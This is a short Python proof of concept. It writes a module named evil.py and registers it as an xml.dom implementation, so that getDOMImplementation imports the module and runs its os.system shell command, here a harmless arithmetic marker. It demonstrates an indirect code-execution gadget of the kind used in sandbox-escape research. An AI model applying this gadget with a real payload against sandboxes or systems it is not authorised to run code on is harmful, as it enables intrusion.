import xml.dom.domreg as d
open("evil.py","w").write("import os; os.system('expr 1000 + 41')")
d.well_known_implementations["x"]="evil"
import xml.dom
xml.dom.getDOMImplementation("x")
